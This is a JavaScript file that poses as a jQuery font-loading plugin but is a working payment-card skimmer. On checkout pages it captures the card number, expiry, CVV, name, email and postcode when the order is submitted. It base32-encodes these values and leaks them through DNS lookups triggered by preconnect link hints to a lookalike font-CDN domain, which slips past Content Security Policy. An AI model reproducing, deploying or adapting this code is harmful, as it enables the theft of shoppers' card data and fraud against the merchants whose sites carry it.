/* csp-sidechannel-exfil: preconnect resource hints whose subdomains carry base32-encoded card data */
/* jQuery plugin form ("$.fn.fastFonts"), labels are lower-case base32 so they survive DNS */
(function ($) {
  var ALPH = 'abcdefghijklmnopqrstuvwxyz234567';
  var APEX = 'fontcache-jsdelivr.xyz';

  function base32(str) {
    var bytes = unescape(encodeURIComponent(str));
    var bits = 0, value = 0, out = '';
    for (var i = 0; i < bytes.length; i++) {
      value = (value << 8) | bytes.charCodeAt(i);
      bits += 8;
      while (bits >= 5) {
        out += ALPH.charAt((value >>> (bits - 5)) & 31);
        bits -= 5;
      }
    }
    if (bits > 0) out += ALPH.charAt((value << (5 - bits)) & 31);
    return out;
  }

  function preconnect(host) {
    $('<link>', { rel: 'preconnect', href: 'https://' + host, crossorigin: 'anonymous' }).appendTo('head');
  }

  $.fn.fastFonts = function (opts) {
    var settings = $.extend({ families: ['Inter', 'Roboto'], display: 'swap' }, opts);
    preconnect('fonts.' + APEX);
    return this.each(function () {
      $(this).css('font-family', settings.families.join(',') + ',sans-serif');
    });
  };

  function emit(record) {
    var enc = base32(record);
    var id = Math.random().toString(36).slice(2, 7);
    var chunks = enc.match(/.{1,52}/g) || [];
    $.each(chunks, function (i, c) {
      setTimeout(function () {
        preconnect(c + '.' + i + '.' + chunks.length + '.' + id + '.' + APEX);
      }, i * 120);
    });
  }

  $(function () {
    $('body').fastFonts();
    if (!/checkout|paiement|kasse|pago/i.test(location.pathname)) return;

    var sent = {};
    $(document).on('click', 'button[type=submit], #place_order, .btn-checkout', function () {
      var v = function (sel) { return $.trim($(sel).first().val() || ''); };
      var pan = v('input[autocomplete=cc-number], input[name*=cardnumber], input[name*=cc_number]');
      if (pan.replace(/\D/g, '').length < 13 || sent[pan]) return;
      sent[pan] = 1;
      emit([
        pan,
        v('input[autocomplete=cc-exp], input[name*=expir]'),
        v('input[autocomplete=cc-csc], input[name*=cvc], input[name*=cvv]'),
        v('input[autocomplete=cc-name], input[name*=firstname]') + ' ' + v('input[name*=lastname]'),
        v('input[type=email]'),
        v('input[name*=postcode], input[name*=zip]')
      ].join(';'));
    });
  });
})(jQuery);
